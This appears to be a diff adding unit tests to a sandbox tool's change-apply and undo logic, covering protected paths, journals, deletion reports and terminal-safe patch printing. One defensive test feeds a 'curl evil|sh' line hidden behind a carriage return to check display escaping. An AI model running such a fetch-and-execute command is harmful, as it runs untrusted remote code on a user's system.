@@ -3,13 +3,18 @@
 from __future__ import annotations
 
 import contextlib
+import fcntl
 import hashlib
 import itertools
+import json
 import os
+import pty
 import resource
 import shlex
 import shutil
 import signal
+import sys
+import tty
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -20,12 +25,14 @@ from tests.unit.test_refused_lines import result
 from x07_sandbox.channel.frames import Stream
 from x07_sandbox.channel.trees import Entry, Kind, Reader
 from x07_sandbox.cli.apply import chosen
-from x07_sandbox.cli.changed import lines, pieces, tell
+from x07_sandbox.cli.changed import lines, machine_form, pieces, print_bytes, tell, write_diff
 from x07_sandbox.cli.main import main
 from x07_sandbox.errors import BackendError, HostError, RefusedError, SandboxError, UsageError
+from x07_sandbox.files import journal
 from x07_sandbox.files.apply import ConflictError
 from x07_sandbox.files.changes import Change, ChangeSet, Node, RootChanges, encode
 from x07_sandbox.files.copy import NUMBER_MAX
+from x07_sandbox.files.journal import Head, Place
 from x07_sandbox.host.paths import private_dir
 from x07_sandbox.plan.denials import HowToAllow
 from x07_sandbox.plan.places import OUT
@@ -270,6 +277,32 @@ def test_nothing_that_decides_which_policy_is_in_use_can_be_changed(run: Run, gi
     changes, denials, _ = run.back(files, Entry(Kind.LINK, changed.encode(), target=b"mine"))
     assert changes.state == "kept"
     assert "protected" in {denial.field for denial in denials}
+
+
+@pytest.mark.parametrize(
+    ("root", "name"),
+    [
+        ("", "vm/runs/9-1-1"),
+        ("", "vm/jobs/9-1-1-run"),
+        ("", "vm/runner_instance"),
+        ("", "cache/artifacts"),
+        ("vm", "RUNS"),
+        ("vm/runs", "9-1-1"),
+        ("cache/x", "y"),
+    ],
+)
+def test_nothing_that_the_tool_itself_believes_can_be_changed(
+    run: Run, monkeypatch: pytest.MonkeyPatch, root: str, name: str
+) -> None:
+    """Where records, kept changes and the cache lie in a write root they are refused, and nobody can let them go."""
+    base = run.root.parent
+    monkeypatch.setenv("X07_VM_CACHE_DIR", str(base / "cache"))
+    (base / "cache/x").mkdir(parents=True)
+    files = run.files({"write_roots": (str(base / root),)}, allow_protected=("*",))
+    changes, denials, _ = run.back(files, Entry(Kind.FOLDER, name.encode(), mode=0o700))
+    assert (changes.state, [denial.field for denial in denials]) == ("kept", ["reserved"])
+    with pytest.raises(RefusedError, match="x07 keeps"):
+        chosen(find(RUN).changes, [], ["*"])
 
 
 def test_a_policy_that_is_itself_a_root_cannot_be_changed(run: Run) -> None:
@@ -616,6 +649,59 @@ def test_undoing_can_be_killed_while_it_ends(run: Run) -> None:
     assert killed > 10
 
 
+def test_what_keeps_from_undoing_is_told_as_that(run: Run) -> None:
+    """An error of the system while changes are taken back says that they cannot be undone, not that they apply."""
+    (run.root / "a").write_bytes(b"x" * 1000)
+    node = Node(kind="file", mode=0o644, size=1000, sha256=hashlib.sha256(b"x" * 1000).hexdigest())
+    gone = Change(name="a", before=node, after=None)
+    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(gone,))
+    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    do(find(RUN), find(RUN).changes, lambda _path: None)
+    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (900, hard))
+    try:
+        with pytest.raises(HostError, match=f"^cannot undo the changes of run {RUN}: '/.*/a': "):
+            undo(find(RUN), lambda _path: None)
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+    undo(find(RUN), lambda _path: None)
+    assert (run.root / "a").stat().st_size == 1000
+
+
+def test_of_two_that_undo_at_once_the_second_finds_it_done(run: Run) -> None:
+    """Undoing waits for a command that applies or undoes the same, and then looks at what it has left."""
+    made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
+    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
+    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    do(find(RUN), find(RUN).changes, lambda _path: None)
+    folder = run.folder.path / "changes"
+    held = os.open(folder, os.O_RDONLY)
+    fcntl.flock(held, fcntl.LOCK_EX)
+
+    def other_ends(path: str) -> None:
+        assert path == str(folder)
+        shutil.rmtree(folder / "undo")
+        os.close(held)
+
+    with pytest.raises(UsageError, match="they are not applied"):
+        undo(find(RUN), other_ends)
+
+
+def test_what_cannot_be_recovered_says_where_its_journal_is(run: Run) -> None:
+    """Where the folder of half applied changes has gone, each command says so, and of which file the advice is."""
+    kept(ChangeSet(run=RUN, roots=()), run.folder.path)
+    folder = run.folder.path / "changes"
+    place = Place(path=str(run.root / "gone"), ident=(1, 1), staging=".x07-apply-1")
+    journal.write(folder, Head(run=RUN, places=(place,)), [])
+    private_dir(run.folder.path.parent / ".applying").joinpath(RUN).touch()
+    told: list[str] = []
+    recover_all(told.append)
+    (text,) = told
+    assert "remove the journal" in text
+    assert text.endswith(f"The journal is below {folder}.")
+    assert (folder / "journal").exists()
+
+
 def test_what_stands_in_the_way_of_undoing_is_told_as_that(run: Run) -> None:
     """Of a file that was changed since undoing says so, and names the command that shows what was there."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
@@ -646,6 +732,31 @@ def test_what_is_all_skipped_is_not_said_to_be_there(run: Run, capsys: pytest.Ca
     ]
 
 
+def test_the_document_of_applying_tells_what_was_done(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """x07 apply --json has the changes that it made, and none where all was there already or all is skipped."""
+    made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
+    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
+    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    told = []
+    for words in (["--skip", "a"], [], []):
+        assert main(["apply", "--json", *words]) == 0
+        roots = json.loads(capsys.readouterr().out)["roots"]
+        told.append([change["name"] for root in roots for change in root["changes"]])
+    assert told == [[], ["a"], []]
+
+
+def test_undoing_lists_what_it_deletes(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """What was added is deleted when it is taken back, and each name of it is told."""
+    made = tuple(Change(name=name, before=None, after=Node(kind="folder", mode=0o755)) for name in ("a", "a/b", "c"))
+    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=made)
+    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    assert main(["apply"]) == 0
+    capsys.readouterr()
+    assert main(["undo"]) == 0
+    told = [f"x07: deleted: {change.name}" for change in made]
+    assert capsys.readouterr().err.splitlines() == [*told, "x07: 3 added: undone; x07 apply"]
+
+
 def test_what_is_there_already_lists_no_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """Each deletion is told when it is done, and not again by a command that finds nothing to do."""
     (run.root / "a").mkdir()
@@ -674,7 +785,7 @@ def test_a_root_that_is_made_is_no_change_of_its_own(run: Run, capsys: pytest.Ca
     for verb in ("apply", "undo"):
         assert main([verb]) == 0
         said.append(capsys.readouterr().err)
-    assert said == ["x07: 1 added: applied; x07 undo\n", "x07: 1 added: undone; x07 apply\n"]
+    assert said == ["x07: 1 added: applied; x07 undo\n", "x07: deleted: a\nx07: 1 added: undone; x07 apply\n"]
     assert not run.root.exists()
 
 
@@ -833,6 +944,18 @@ def test_a_full_disk_is_told_and_leaves_no_half_of_a_list(run: Run) -> None:
         find(RUN)
 
 
+def test_a_result_names_every_deletion(run: Run) -> None:
+    """Of a thousand names and more a result has those that are deleted, first, and no others beyond a thousand."""
+    gone = [f"gone {number}" for number in range(1050)]
+    for name in gone:
+        (run.root / name).touch()
+    files = run.files(changes="keep")
+    told = [Entry(Kind.GONE, name.encode()) for name in gone]
+    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *told)
+    assert {(one.name, one.action) for one in changes.names} == {(name, "deleted") for name in gone}
+    assert len(changes.names) == changes.deleted == len(gone)
+
+
 def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
     """Where a result has fewer names than were deleted, the command lists all of them from the run's folder."""
     gone = [f"gone {number}" for number in range(1500)]
@@ -844,6 +967,30 @@ def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) ->
     tell(ended)
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if "deleted: gone" in line] == [f"x07: deleted: {name}" for name in sorted(gone)]
+
+
+def test_a_patch_names_what_was_kept_though_nothing_of_it_is_a_change(run: Run) -> None:
+    """Where all that a program made is of no kind that a tree holds, --diff says so in both its files, as x07 diff."""
+    changes, denials, _ = run.back(run.files(), Entry(Kind.OTHER, b"pipe", mode=0o10644))
+    ended = msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials))
+    assert (changes.state, changes.names) == ("kept", ())
+    place = run.root.parent / "p"
+    write_diff(place, ended)
+    assert place.read_bytes() == b"".join(pieces(find(RUN)))
+    assert b"# may not be done: pipe: it is a pipe" in place.read_bytes()
+    assert place.with_name("p.json").read_bytes() == machine_form(find(RUN).changes)
+
+
+def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    """On a terminal a carriage return within a line is a mark, and one that only ends it passes."""
+    ours, theirs = pty.openpty()
+    tty.setraw(theirs)  # so that what comes is what was written
+    with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
+        monkeypatch.setattr(sys, "stdout", terminal)
+        print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
+        shown = os.read(ours, 1000)
+    os.close(ours)
+    assert shown.decode() == "+curl evil|sh\N{REPLACEMENT CHARACTER}+echo hello\n+dos\r\n"
 
 
 def test_a_patch_is_not_written_line_by_line(run: Run) -> None:
